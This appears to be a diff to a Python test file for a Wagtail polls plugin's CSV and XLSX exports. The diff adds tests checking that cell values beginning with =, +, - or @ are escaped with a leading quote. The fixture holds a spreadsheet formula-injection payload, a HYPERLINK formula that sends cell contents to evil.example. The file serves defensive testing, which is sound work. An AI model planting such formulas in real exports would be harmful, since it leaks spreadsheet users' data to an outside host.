@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import codecs
 import io
 
 import pytest
@@ -46,13 +47,13 @@ class TestResults:
         cast(poll, [0], [0], [1])
         response = client_for(poll_editor).get(url("results", poll), {"export": "csv"})
         assert response.status_code == 200
-        lines = body(response).decode().splitlines()
+        lines = body(response).decode("utf-8-sig").splitlines()
         assert lines == [
-            "Choice,Votes,Percent of voters",
-            "Canteen,2,66.7",
-            "Pizzeria,1,33.3",
-            "Picnic,0,0.0",
-            "Voters (total),3,",
+            "Choice;Votes;Percent of voters",
+            "Canteen;2;66.7",
+            "Pizzeria;1;33.3",
+            "Picnic;0;0.0",
+            "Voters (total);3;",
         ]
 
     def test_xlsx_export(self, client_for, poll_editor):
@@ -113,10 +114,10 @@ class TestVotersExport:
         assert url("voters", poll) in client.get(url("results", poll)).content.decode()
         response = client.get(url("voters", poll), {"export": "csv"})
         assert response.status_code == 200
-        assert body(response).decode().splitlines() == [
-            "Name,Username,Choices",
-            "Voter0 Dupont,voter0,Canteen; Picnic",
-            "Voter1 Dupont,voter1,Pizzeria",
+        assert body(response).decode("utf-8-sig").splitlines() == [
+            "Name;Username;Choices",
+            'Voter0 Dupont;voter0;"Canteen; Picnic"',
+            "Voter1 Dupont;voter1;Pizzeria",
         ]
         entry = ModelLogEntry.objects.get(action="wagtail_social_polls.export_voters")
         assert entry.object_id == str(poll.pk) and entry.user == exporter
@@ -146,3 +147,52 @@ class TestVotersExport:
         client.get(url("voters", poll), {"export": "xlsx"})
         history = client.get(url("history", poll)).content.decode()
         assert "Export of who voted what" in history
+
+
+class TestExportsNeutraliseFormulas:
+    """Choices and names that a spreadsheet would run as formulas are written with a quote in
+    front, in CSV and XLSX; counts and percentages stay numbers."""
+
+    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    @pytest.fixture
+    def poll(self):
+        poll = make_poll(choices=(self.FORMULA, "+33 1 23", "Canteen"))
+        cast(poll, [0], [1], [2], [2])
+        return poll
+
+    def test_results_csv(self, client_for, poll_editor, poll):
+        data = body(client_for(poll_editor).get(url("results", poll), {"export": "csv"}))
+        assert data.startswith(codecs.BOM_UTF8)
+        assert data.decode("utf-8-sig").splitlines() == [
+            "Choice;Votes;Percent of voters",
+            '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";1;25.0',
+            "'+33 1 23;1;25.0",
+            "Canteen;2;50.0",
+            "Voters (total);4;",
+        ]
+
+    def test_results_xlsx(self, client_for, poll_editor, poll):
+        data = body(client_for(poll_editor).get(url("results", poll), {"export": "xlsx"}))
+        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
+        assert rows[1:] == [
+            ("'" + self.FORMULA, 1, 25.0),
+            ("'+33 1 23", 1, 25.0),
+            ("Canteen", 2, 50.0),
+            ("Voters (total)", 4, None),
+        ]
+
+    def test_voters_csv_and_xlsx(self, client_for, exporter, poll):
+        # An admin user can set their own name to a formula.
+        voter = poll.voters.get(user__username="voter0").user
+        voter.first_name, voter.last_name = "@SUM(1,1)", "-x"
+        voter.save()
+        client = client_for(exporter)
+        text = body(client.get(url("voters", poll), {"export": "csv"})).decode("utf-8-sig")
+        assert (
+            '\'@SUM(1,1) -x;voter0;"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'
+            in text.splitlines()
+        )
+        data = body(client.get(url("voters", poll), {"export": "xlsx"}))
+        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
+        assert ("'@SUM(1,1) -x", "voter0", "'" + self.FORMULA) in rows
